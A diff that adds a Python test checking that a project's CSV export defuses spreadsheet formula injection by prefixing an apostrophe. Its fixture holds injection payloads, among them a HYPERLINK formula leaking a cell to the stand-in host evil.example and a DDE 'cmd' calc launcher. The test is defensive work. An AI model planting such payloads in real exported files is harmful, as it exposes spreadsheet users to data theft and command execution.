@@ -571,6 +571,51 @@ def test_the_search_csv_holds_each_ranked_images_manifest_row(tmp_path):
     np.testing.assert_array_equal(table["score"], result.scores[result.top_indices])
 
 
+def test_the_pages_csv_opens_in_a_spreadsheet_as_values_not_formulas(tmp_path):
+    """A dataset's labels, domains and column names reach the pages' CSV downloads as they are: a
+    label `=HYPERLINK(…)` would run as a formula where a hosted app's visitor opens the file in a
+    spreadsheet (security review). Text that begins as a formula does gets an apostrophe (OWASP);
+    numbers, negative ones too, and other text are written as before."""
+    import csv
+    import io
+
+    from vfs.export import image_scores, ranked_rows, spreadsheet_csv
+
+    evil = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-1+2",
+        "\tx",
+    ]
+    rows = candidates(8).assign(
+        label=[*evil, "cat", "-", None],
+        dom=["=1+1", *["d"] * 7],
+        **{"=col": range(8)},
+        delta=np.arange(8) - 4.5,
+    )
+    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, rows, 32)
+    fill(w, range(8))
+    w.finish(rows)
+    cache = open_cache(tmp_path / "c.zarr")
+    result = search_regions(cache, 0, np.ones((4, 5)), k=8)
+    for table, index in (
+        (ranked_rows(cache, result, ["rank", "index", "score", "label", "domain"]), False),
+        (image_scores(cache, result), True),
+    ):
+        text = spreadsheet_csv(table, index=index)
+        read = list(csv.DictReader(io.StringIO(text)))
+        cells = [v for row in read for v in row.values()] + list(read[0])
+        assert not [c for c in cells if c and c[0] in "=+@\t"], text  # no formula left
+        assert {"'" + e for e in evil} <= set(cells) and "'=col" in read[0] and "'=1+1" in cells
+        assert {"cat", "'-"} <= set(cells)  # other text as it was; a lone "-" is text too
+        back = pd.read_csv(io.StringIO(text))
+        if "delta" in back:
+            np.testing.assert_array_equal(np.sort(back["delta"]), np.arange(8) - 4.5)  # numbers stay numbers
+        assert back["score" if "score" in back else "vfs_score"].dtype == float
+    assert spreadsheet_csv(pd.DataFrame({"a": [1]})) == pd.DataFrame({"a": [1]}).to_csv()
+
+
 def test_compared_scores_are_both_sides_rows_the_agreement_is_computed_from(tmp_path):
     from vfs.export import compared_scores
     from vfs.stats import rank_agreement
